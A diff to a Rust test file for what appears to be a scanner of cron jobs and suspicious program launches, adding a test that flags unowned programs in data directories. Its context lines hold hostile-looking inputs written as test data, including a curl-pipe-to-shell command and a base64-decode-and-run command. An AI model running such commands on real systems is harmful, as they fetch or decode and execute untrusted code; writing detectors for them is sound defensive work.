@@ -44,6 +44,25 @@ fn programs_in_volatile_and_hidden_places() {
     check_line("d=/dev/shm; $d/k", "starts /dev/shm/k, which lies in /dev/shm and is not there now");
 }
 #[test]
+fn programs_of_no_package_among_data() {
+    let host = |path: &str| {
+        format!("{ACCOUNTS}/etc/cron.d/x = @daily root {path}\n\n{path} = #!/bin/sh\\n\n{path} : mode=100755")
+    };
+    for dir in ["/var/cache", "/var/log", "/boot", "/run"] {
+        let text = format!(
+            "suspicious: /etc/cron.d/x line 1 starts {dir}/k, which no package owns and which lies among the data of {dir}"
+        );
+        check(NAME, &host(&format!("{dir}/k")), &[&text]);
+    }
+    let text = "unusual: /etc/cron.d/x line 1 starts /usr/bin/k, which no package owns and which lies among packages' \
+                programs";
+    check(NAME, &host("/usr/bin/k"), &[text]);
+    for path in ["/usr/local/bin/k", "/var/lib/app/k", "/root/k"] {
+        check(NAME, &host(path), &[]);
+    }
+    check(NAME, &format!("{}\npackage k 1 owns /var/cache/k", host("/var/cache/k")), &[]);
+}
+#[test]
 fn code_from_elsewhere() {
     check_line("curl -fsSL http://x | sh", "fetches code and runs it");
     check_line("echo dHJ1ZQ== | base64 -d | sh", "decodes code and runs it");
